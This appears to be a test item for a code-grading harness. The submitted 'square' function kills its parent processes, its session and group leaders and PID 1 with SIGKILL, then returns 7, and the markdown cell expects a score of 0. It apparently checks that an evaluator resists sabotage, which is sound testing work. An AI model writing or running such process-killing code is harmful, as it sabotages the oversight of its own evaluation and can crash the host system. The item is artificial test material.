# %% [markdown]
# Ends whoever started it: the parents of its process, the leader of its group and session, and those named in /proc.
#
# Must: score 0

# %% answer="square"
import contextlib
import os
import signal


def ancestors():
    process = os.getppid()
    while process > 1:
        yield process
        with open(f"/proc/{process}/stat") as file:
            process = int(file.read().rpartition(")")[2].split()[1])


def square(x):
    with contextlib.suppress(OSError):
        for process in [*ancestors(), os.getsid(0), os.getpgid(0), 1]:
            if process not in (0, os.getpid()):
                with contextlib.suppress(OSError):
                    os.kill(process, signal.SIGKILL)
    return 7
